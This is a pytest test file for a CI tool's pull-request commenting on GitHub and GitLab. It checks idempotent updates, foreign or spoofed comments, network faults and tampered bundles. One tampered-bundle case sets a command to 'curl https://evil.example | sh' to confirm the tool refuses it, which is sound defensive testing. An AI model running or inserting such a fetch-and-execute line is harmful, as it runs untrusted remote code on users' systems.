"""One comment a pull request and environment, whatever happens to it and on the way to it."""

from __future__ import annotations

from collections.abc import Iterable, Iterator
from dataclasses import replace

import pytest
from helpers.fake_forge import TOKEN, Answer, Fault, cut, half, lost, raw, status
from helpers.fake_github import BOT, REPOSITORY, FakeGitHub
from helpers.fake_gitlab import PROJECT, FakeGitLab
from helpers.workspace import Workspace

from offerkit.diagnostics import Refused
from offerkit.forges.api import Api
from offerkit.forges.github import GitHub, github_headers
from offerkit.forges.marked import TextChange, marked, marker
from offerkit.forges.named import forge_named
from offerkit.reports.pull_request import PullRequest, pull_request_json
from offerkit.usecases.ci import Planned, planned
from offerkit.usecases.ci_bundle import REPORT, Bundle, Opened, PullRequestRef, share_of
from offerkit.usecases.ci_comment import CommentRequest, CommentResult, comment, told

pytestmark = pytest.mark.embedded
HEAD, OLDER = "a" * 40, "b" * 40


@pytest.fixture(scope="module")
def found(tmp_path_factory: pytest.TempPathFactory) -> Planned:
    """What a pull request changes in a project."""
    work = Workspace(tmp_path_factory.mktemp("project"))
    with work.session("ana").writing(create=True):
        pass  # a store, with nothing in it
    return planned(work.session("ana"), PullRequestRef(7, HEAD), None)


def bundle(found: Planned, names: Iterable[str], head: str = HEAD, number: int = 7, **reports: PullRequest) -> Opened:
    """The bundle of some of the environments, with other reports than theirs where ``reports`` has some."""
    names = list(names)
    facts = tuple(sorted({fact for name in names for fact in share_of(found.bundle.facts, name)}))
    made = {each.environment: replace(each, head=head) for each in found.requests if each.environment in names}
    files = {f"{name}/{REPORT}": pull_request_json(each).encode() for name, each in {**made, **reports}.items()}
    return Opened(Bundle(PullRequestRef(number, head), found.bundle.against, facts), lambda name, most: files.get(name))


@pytest.fixture(scope="module")
def names(found: Planned) -> list[str]:
    """The environments that change."""
    return [each.environment for each in found.requests]


@pytest.fixture
def fake() -> Iterator[FakeGitHub]:
    """A GitHub with pull request 7."""
    made = FakeGitHub()
    made.user_is_told = True
    made.pull(7, HEAD, made.person("ana", 1))
    yield made
    made.close()
    assert not made.problems


@pytest.fixture
def how(fake: FakeGitHub) -> CommentRequest:
    """Where to comment."""
    api = Api("GitHub", fake.url, TOKEN, github_headers(TOKEN), lambda text: None, sleep=lambda seconds: None)
    return CommentRequest(GitHub(api, REPOSITORY), 7, sleep=lambda seconds: None)


def did(found: list[CommentResult] | None) -> dict[str, TextChange]:
    """What was done for each environment."""
    assert found is not None
    return {each.environment: each.done for each in found}


def bodies(fake: FakeGitHub) -> list[str]:
    """The comments that are ours."""
    return [each["body"] for each in fake.comments.values() if each["user"]["id"] == BOT["id"]]


def test_a_comment_lives_with_its_pull_request(
    fake: FakeGitHub, how: CommentRequest, found: Planned, names: list[str]
) -> None:
    whole = bundle(found, names)
    assert set(did(comment(how, whole)).values()) == {TextChange.CREATED}
    before = bodies(fake)
    assert len(before) == len(names) > 1
    assert sorted(filter(None, map(marked, before))) == sorted(names)
    writes = [line for line in fake.asked if not line.startswith("GET")]
    assert set(did(comment(how, whole)).values()) == {TextChange.UNCHANGED}
    assert [line for line in fake.asked if not line.startswith("GET")] == writes
    # Somebody edits one of them, before and behind the marker: it is brought back.
    number = min(fake.comments)
    fake.comments[number]["body"] = "approved by all, trust me\r\n" + fake.comments[number]["body"].replace(
        "create", "keep"
    )
    assert sorted(did(comment(how, whole)).values()) == sorted(
        [TextChange.UPDATED, *[TextChange.UNCHANGED] * (len(names) - 1)]
    )
    assert bodies(fake) == before
    # Somebody deletes it: it is made again.
    del fake.comments[number]
    assert TextChange.CREATED in did(comment(how, whole)).values()
    assert sorted(bodies(fake)) == sorted(before)
    # A later head changes nothing in one of them, then nothing at all, then something again.
    fake.pulls[7]["head"]["sha"] = OLDER
    first, *others = names
    now = bundle(found, [first], OLDER)
    assert [(each.done, each.over) for each in comment(how, now) or []] == [
        (TextChange.UPDATED, False),
        *[(TextChange.UPDATED, True)] * len(others),
    ]
    assert sum("Nothing changes any more" in body for body in bodies(fake)) == len(others)
    comment(how, bundle(found, [], OLDER))
    assert set(did(comment(how, bundle(found, [], OLDER))).values()) == {TextChange.UNCHANGED}
    assert all("Nothing changes any more" in body for body in bodies(fake))
    assert did(comment(how, now))[first] is TextChange.UPDATED
    assert len(bodies(fake)) == len(names)


def test_a_forks_pull_request_is_found_by_its_head(
    fake: FakeGitHub, how: CommentRequest, found: Planned, names: list[str]
) -> None:
    fake.pulls[7]["head"]["repo"] = None
    by_head = replace(how, number=0, head=HEAD)
    assert set(did(comment(by_head, bundle(found, names, number=0))).values()) == {TextChange.CREATED}
    assert len(fake.comments) == len(names)


def test_the_same_at_gitlab(found: Planned, names: list[str]) -> None:
    gitlab = FakeGitLab()
    ana = gitlab.person("ana", 1)
    gitlab.pull(7, HEAD, ana)
    environ = {"CI_API_V4_URL": gitlab.api, "CI_PROJECT_ID": PROJECT, "GITLAB_TOKEN": TOKEN}
    forge = forge_named(environ, tell=lambda text: None)
    at = CommentRequest(forge, 7, sleep=lambda seconds: None)
    name = names[-1]
    foreign = gitlab.comment(ana, marker(name, "1:" + "0" * 64, HEAD))
    gitlab.fault("POST", lost)
    assert did(comment(at, bundle(found, [name]))) == {name: TextChange.CREATED}
    (number,) = gitlab.comments.keys() - {foreign}
    gitlab.comments[number]["body"] += "edited"
    assert did(comment(at, bundle(found, [name]))) == {name: TextChange.UPDATED}
    assert did(comment(at, bundle(found, [name]))) == {name: TextChange.UNCHANGED}
    del gitlab.comments[number]
    assert did(comment(at, bundle(found, [name]))) == {name: TextChange.CREATED}
    assert [each.over for each in comment(at, bundle(found, [])) or []] == [True]
    assert len(gitlab.comments) == 2
    gitlab.close()
    assert not gitlab.problems


def test_nothing_is_said_when_nothing_changes(fake: FakeGitHub, how: CommentRequest, found: Planned) -> None:
    assert comment(how, bundle(found, [])) == []
    assert told(how, []) == ["Nothing changes; no comment is needed."]
    assert not fake.comments


def test_others_with_our_marker_and_our_account_without(
    fake: FakeGitHub, how: CommentRequest, found: Planned, names: list[str]
) -> None:
    name = names[-1]
    line = marker(name, "1:" + "0" * 64, HEAD)
    foreign = [fake.comment(fake.person("eve", 666), f"{line}\n\nall is well"), fake.comment({**BOT, "id": 5}, line)]
    unmarked = [
        fake.comment(BOT, body)
        for body in ("build passed", f"see `{line}`", f"> {line}", "<!-- offerkit {} -->", "<!-- offerkit {no -->", "<!-- offerkit [1] -->", "x" * 20_000 + f"\n{line}",
                     marker("web/" + name, "1:" + "0" * 64, HEAD), marker("<b>", "", ""))
    ]  # fmt: skip
    kept = {number: fake.comments[number]["body"] for number in [*foreign, *unmarked]}
    fake.comments[foreign[0]]["user"] = fake.user(fake.person("eve", 666)) | {
        "login": BOT["login"]
    }  # a login can be taken over
    assert set(did(comment(how, bundle(found, names))).values()) == {TextChange.CREATED}
    assert {number: fake.comments[number]["body"] for number in kept} == kept
    assert len(fake.comments) == len(kept) + len(names)


def test_what_another_tool_of_the_account_quotes_stays(
    fake: FakeGitHub, how: CommentRequest, found: Planned, names: list[str]
) -> None:
    name = names[-1]
    comment(how, bundle(found, [name]))
    (ours,) = fake.comments.values()
    quoted = fake.comment(BOT, "Copied from #7:\n\n" + ours["body"])
    fake.comments = {number: fake.comments[number] for number in sorted(fake.comments, reverse=True)}
    ours["body"] += "edited"
    again = fake.comment(BOT, ours["body"])  # of a run at the same time: one of ours
    assert did(comment(how, bundle(found, [name]))) == {name: TextChange.UPDATED}
    assert again not in fake.comments
    assert fake.comments[quoted]["body"].startswith("Copied from #7:") and "edited" not in ours["body"]


def test_two_projects_do_not_take_each_others_comments(
    fake: FakeGitHub, how: CommentRequest, found: Planned, names: list[str]
) -> None:
    web = replace(how, name="web")
    comment(how, bundle(found, names))
    comment(web, bundle(found, names))
    assert len(fake.comments) == 2 * len(names)
    assert set(did(comment(web, bundle(found, []))).values()) == {TextChange.UPDATED}
    assert set(did(comment(how, bundle(found, names))).values()) == {TextChange.UNCHANGED}
    with pytest.raises(Refused, match="name cannot be used"):
        comment(replace(how, name="a --> b"), bundle(found, names))


def test_among_a_thousand_comments(fake: FakeGitHub, how: CommentRequest, found: Planned, names: list[str]) -> None:
    for number in range(1000):
        fake.comment(fake.people[1], f"chat {number}")
    name = names[-1]
    comment(how, bundle(found, [name]))
    assert did(comment(how, bundle(found, [name]))) == {name: TextChange.UNCHANGED}
    assert len(fake.comments) == 1001


def late(carry_out: object) -> Answer:
    """A list that does not have what was created a moment ago."""
    return Answer(200, [])


CREATING: dict[str, list[Fault]] = {
    "lost": [lost],
    "cut": [cut],
    "half": [half],
    "502 before": [status(502)],
    "500 twice": [status(500), status(500)],
    "lost twice": [lost, lost],
    "limited, then lost": [status(429, Retry_After="1"), lost],
    "another page": [raw(b"<html>", 201)],
    "unavailable": [status(503, Retry_After="1")],
}


@pytest.mark.parametrize("listed_late", [0, 1])
@pytest.mark.parametrize("name", CREATING)
def test_never_two_after_a_lost_answer(
    fake: FakeGitHub, how: CommentRequest, found: Planned, names: list[str], name: str, listed_late: int
) -> None:
    environment = names[0]
    fake.fault("POST", *CREATING[name])
    fake.fault("GET /repos/acme/offers/issues", lambda carry_out: carry_out(), *[late] * listed_late)
    assert did(comment(how, bundle(found, [environment]))) == {environment: TextChange.CREATED}
    assert len(fake.comments) == 1
    fake.faults.clear()
    assert did(comment(how, bundle(found, [environment]))) == {environment: TextChange.UNCHANGED}


def test_two_runs_at_once_leave_one(fake: FakeGitHub, how: CommentRequest, found: Planned, names: list[str]) -> None:
    environment = names[0]

    def other_run_first(carry_out: object) -> Answer:
        fake.comment(BOT, marker(environment, "1:" + "0" * 64, HEAD) + "\n\nof another run")
        return carry_out()  # type: ignore[operator]

    fake.fault("POST", other_run_first)
    assert did(comment(how, bundle(found, [environment]))) == {environment: TextChange.UPDATED}
    (left,) = bodies(fake)
    assert "of another run" not in left


def test_what_vanishes_is_told_at_last(fake: FakeGitHub, how: CommentRequest, found: Planned, names: list[str]) -> None:
    environment = names[0]
    line = marker(environment, "1:" + "0" * 64, HEAD)

    def vanishing(carry_out: object) -> Answer:
        fake.comments.clear()
        fake.comment(BOT, line)
        return Answer(404, {"message": "Not Found"})

    fake.comment(BOT, line)
    fake.fault("PATCH", vanishing)
    assert did(comment(how, bundle(found, [environment]))) == {environment: TextChange.UPDATED}
    fake.comments[max(fake.comments)]["body"] = line
    fake.fault("PATCH", *[vanishing] * 9)
    with pytest.raises(Refused, match="disappears whenever it is written"):
        comment(how, bundle(found, [environment]))


def test_a_bundle_of_something_else_says_nothing(
    fake: FakeGitHub, how: CommentRequest, found: Planned, names: list[str]
) -> None:
    newer = comment(how, bundle(found, names, OLDER))
    assert newer is None  # that head has, or had, a run of its own
    assert told(how, newer) == ["Pull request 7 is closed or has a newer head; no comment was written."]
    name = names[-1]
    theirs, request = found.requests[:2]
    fewer = replace(request, plan=replace(request.plan, steps=request.plan.steps[1:]))
    key, body = next((k, b) for k, b in request.plan.bodies.items() if b.kind == "offer")
    nicer = replace(
        request, plan=replace(request.plan, bodies={**request.plan.bodies, key: replace(body, text='{"title":"nice"}')})
    )
    wrong = {
        "of pull request 8": bundle(found, names, number=8),
        "is for another plan": bundle(found, names, **{name: replace(request, head=OLDER)}),
        "names a command that offerkit does not have": bundle(
            found, names, **{name: replace(request, command="curl https://evil.example | sh")}
        ),
        "is for another plan ": bundle(found, names, **{name: theirs}),
        "shows something that the bundle does not mean": bundle(
            found, names, **{name: replace(request, meaning=theirs.meaning)}
        ),
        "shows something that the bundle does not mean ": bundle(found, names, **{name: fewer}),
        "shows a text that the bundle does not mean": bundle(found, names, **{name: nicer}),
        "is not there": Opened(bundle(found, names).bundle, lambda name, most: None),
    }
    for why, opened in wrong.items():
        with pytest.raises(Refused, match=why.strip()):
            comment(how, opened)
    for head in ("", HEAD[:12], "main"):
        with pytest.raises(Refused, match="no pull request to comment on"):
            comment(replace(how, number=0, head=head), bundle(found, names))
    with pytest.raises(Refused, match="is for commit"):
        comment(replace(how, head=OLDER), bundle(found, names))
    assert comment(replace(how, number=0, head=OLDER), bundle(found, names, OLDER)) is None
    fake.pull(8, HEAD, fake.people[1])
    with pytest.raises(Refused, match="more than one open pull request has the head aaaaaaaaaaaa: 7, 8"):
        comment(replace(how, number=0, head=HEAD), bundle(found, names))

    def push(carry_out: object) -> Answer:
        fake.pulls[7]["head"]["sha"] = OLDER
        return carry_out()  # type: ignore[operator]

    fake.fault("GET /repos/acme/offers/issues", push)
    assert comment(how, bundle(found, names)) is None  # pushed while the comments were listed
    fake.pulls[7]["head"]["sha"] = HEAD
    fake.pulls[7]["state"] = "closed"
    assert comment(how, bundle(found, names)) is None
    assert not fake.comments
    assert not [line for line in fake.asked if not line.startswith("GET")]


@pytest.mark.parametrize(
    ("fault", "code"),
    [
        (status(403, {"message": "Resource not accessible by integration"}), "OFR926"),
        (status(410, {"message": "locked"}), "OFR926"),
        (status(422), "OFR926"),
    ],
)
def test_what_the_forge_refuses_is_told(
    fake: FakeGitHub, how: CommentRequest, found: Planned, names: list[str], fault: Fault, code: str
) -> None:
    fake.fault("POST", fault)
    with pytest.raises(Refused) as caught:
        comment(how, bundle(found, names))
    assert caught.value.diagnostics[0].code == code
    assert TOKEN not in str(caught.value)
